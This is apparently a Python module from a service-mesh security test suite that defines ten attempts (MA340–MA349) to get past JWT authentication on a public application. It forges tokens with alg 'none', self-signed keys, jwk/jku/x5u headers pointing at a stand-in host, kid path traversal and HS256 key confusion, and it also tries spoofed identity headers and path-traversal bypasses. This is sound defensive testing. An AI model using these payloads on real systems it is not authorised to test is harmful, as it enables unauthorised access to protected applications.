"""MA34x to MA35x: a public application that asks for its users' tokens, and somebody who has none.

Every token here is of the attacker's own making, which is what he has. What the issuer signed and is wrong all the
same (expired, for another audience, without a claim) needs the issuer's key: tests/lab/cluster/test_users.py has it.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Callable, Mapping
from typing import Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding, rsa

from configuration.authentication import Authentication, TokenSource
from manifests.mesh_graph import Member
from meshops.attack import http, judging
from meshops.attack.entry import attempt
from meshops.attack.ground import BESIDE, Ground
from meshops.attack.model import Attempt, Shot
from meshops.attack.shots import to_alb, to_gateway
from meshops.checks.model import Severity

Sign = Callable[[bytes], bytes]
Headers = tuple[tuple[str, str], ...]


def _asking(ground: Ground) -> Member | None:
    """A public application that asks for tokens."""
    return next((member for member in ground.stack.published if member.application.authentication), None)


def _sent(ground: Ground, *headers: Headers, path: str = "/") -> list[Shot]:
    """Each of these headers, by the load balancer and, from a pod, at the gateway."""
    member = _asking(ground)
    if member is None:
        return []
    host = member.application.hosts[0]
    shots = []
    for fields in headers:
        text = http.request(host, path, headers=fields)
        said = ", ".join(f"{name}: {value[:60]}" for name, value in fields) or f"GET {path} without a token"
        if ground.alb:
            shots.append(to_alb(ground, text, sni=host, said=said))
        shots += to_gateway(ground, BESIDE, text, said=said)
    return shots


def _encoded(value: bytes | Mapping[str, Any]) -> str:
    raw = value if isinstance(value, bytes) else json.dumps(value).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def _token(authentication: Authentication, head: Mapping[str, Any], sign: Sign, **claims: Any) -> str:
    """With all claims that the application asks for, of its first issuer."""
    issuer = authentication.issuers[0]
    now = int(time.time())
    said: dict[str, Any] = {
        "iss": issuer.issuer, "aud": issuer.audiences[0], "sub": "meshops-attack", "iat": now - 5, "exp": now + 600,
    }  # fmt: skip
    for required in issuer.claims:
        inner: Any = required.values[0]
        for name in reversed(required.path[1:]):
            inner = {name: inner}
        said[required.path[0]] = inner
    said = {name: value for name, value in (said | claims).items() if value is not None}
    text = f"{_encoded(head)}.{_encoded(said)}"
    return f"{text}.{_encoded(sign(text.encode()))}"


def _own_key() -> tuple[Sign, dict[str, Any]]:
    """A key of one's own, and its public half as a JWK."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    numbers = key.public_key().public_numbers()
    public = {"kty": "RSA", "use": "sig", "alg": "RS256", "kid": "meshops-attack"}
    public |= {"n": _encoded(numbers.n.to_bytes(256, "big")), "e": _encoded(numbers.e.to_bytes(3, "big"))}
    return lambda text: key.sign(text, padding.PKCS1v15(), hashes.SHA256()), public


def _hmac(secret: str) -> Sign:
    return lambda text: hmac.new(secret.encode(), text, hashlib.sha256).digest()


def _carried(source: TokenSource, token: str) -> Headers:
    if source.header:
        return ((source.header, f"{source.prefix}{token}"),)
    return (("Cookie", f"{source.cookie}={token}"),) if source.cookie else ()


def _tokens(ground: Ground, *heads: tuple[Mapping[str, Any], Sign], **claims: Any) -> list[Shot]:
    """A token of each kind, where the application looks for one. In the query, if it looks there."""
    member = _asking(ground)
    authentication = member.application.authentication if member else None
    if authentication is None:
        return []
    source = authentication.token_sources[0]
    shots: list[Shot] = []
    for head, sign in heads:
        token = _token(authentication, head, sign, **claims)
        path = f"/?{source.query}={token}" if source.query else "/"
        shots += _sent(ground, _carried(source, token), path=path)
    return shots


def _unsigned(ground: Ground) -> list[Shot]:
    return _tokens(ground, *(({"alg": name, "typ": "JWT"}, lambda _: b"") for name in ("none", "None", "NONE", "nOnE")))


def _own(ground: Ground, **claims: Any) -> list[Shot]:
    sign, public = _own_key()
    rs256 = {"alg": "RS256", "typ": "JWT"}
    return _tokens(ground, (rs256, sign), ({**rs256, "kid": public["kid"]}, sign), **claims)


def _brought_along(ground: Ground) -> list[Shot]:
    """The token says where its key is: RFC 7515, 4.1.2, 4.1.3 and 4.1.6. Nobody may look there."""
    sign, public = _own_key()
    rs256 = {"alg": "RS256", "typ": "JWT", "kid": public["kid"]}
    return _tokens(
        ground,
        ({**rs256, "jwk": public}, sign),
        ({**rs256, "jku": "https://meshops-attack.example.org/keys"}, sign),
        ({**rs256, "x5u": "https://meshops-attack.example.org/chain.pem"}, sign),
        ({**rs256, "kid": "../../../../dev/null"}, sign),
    )


def _symmetric(ground: Ground) -> list[Shot]:
    """What is public, taken for a secret."""
    member = _asking(ground)
    if member is None or member.application.authentication is None:
        return []
    issuer = member.application.authentication.issuers[0]
    secrets = ("", "secret", issuer.issuer, issuer.jwks_uri)
    return _tokens(ground, *(({"alg": "HS256", "typ": "JWT"}, _hmac(secret)) for secret in secrets))


def _malformed(ground: Ground) -> list[Shot]:
    values = ("", "Bearer", "Bearer ", "Bearer .", "Bearer ..", "Bearer a.b.c", "Basic YTpi", f"Bearer {'A' * 8000}")
    return _sent(
        ground,
        *((("Authorization", value),) for value in values),
        (("Authorization", "Bearer a.b.c"), ("Authorization", "Bearer d.e.f")),
    )


def _claimed(ground: Ground) -> list[Shot]:
    """By the headers in which an application is told who its user is, and those that proxies are used to."""
    member = _asking(ground)
    authentication = member.application.authentication if member else None
    if authentication is None:
        return []
    names = [item.header for item in authentication.claim_headers]
    names += ["x-jwt-payload", "x-forwarded-user", "x-auth-request-user", "x-forwarded-client-cert"]
    return _sent(ground, *(((name, "meshops-attack"),) for name in names))


def _exempt(ground: Ground) -> list[Shot]:
    """From a path that needs no token to one that does, in the forms that servers read differently."""
    member = _asking(ground)
    authentication = member.application.authentication if member else None
    paths = authentication.except_paths if authentication else ()
    if not paths:
        return []
    open_path = paths[0].rstrip("*/")
    forms = ("/../", "/%2e%2e/", "/..%2f", "%2f..%2f", "/..;/", "\\..\\", "/%252e%252e/", "?/../", "#/../")
    return [shot for form in forms for shot in _sent(ground, (), path=f"{open_path}{form}")]


def _row(
    number: int, name: str, tries: str, steps: Callable[[Ground], list[Shot]], severity: Severity = "critical"
) -> Attempt:
    return attempt(
        f"MA{number}", position="internet", name=name, tries=tries, must="No answer below 400.", wall="policy",
        steps=steps, judge=judging.no_success, severity=severity,
    )  # fmt: skip


ATTEMPTS: tuple[Attempt, ...] = (
    _row(340, "No token", "Asks a public application that wants a token without one.",
         lambda ground: _sent(ground, ())),
    _row(341, "A token that nobody signed", "All claims in order, and `alg` none, in four spellings.", _unsigned),
    _row(342, "A token signed by oneself", "All claims in order, signed by a key of one's own, with and without `kid`.",
         _own),
    _row(343, "A token that brings its key along", "The same with its key in `jwk`, at `jku`, at `x5u`, or a `kid` "
         "that is a path.", _brought_along),
    _row(344, "A token signed by what is public", "HS256, with the issuer's name and other public texts for a secret.",
         _symmetric),
    _row(345, "A token of an issuer that nobody named", "Another issuer's, signed by its key.",
         lambda ground: _own(ground, iss="https://meshops-attack.example.org")),
    _row(346, "A token without issuer, without end", "Signed by a key of one's own, without `iss`, without `exp`.",
         lambda ground: [*_own(ground, iss=None), *_own(ground, exp=None)]),
    _row(347, "What is no token", "Empty, cut, of another scheme, too long, two of them.", _malformed),
    _row(348, "A user by header", "Names a user in the headers in which applications are told of one.", _claimed),
    _row(349, "Out of a path that needs no token", "From an exempt path to another, in nine forms.", _exempt),
)  # fmt: skip
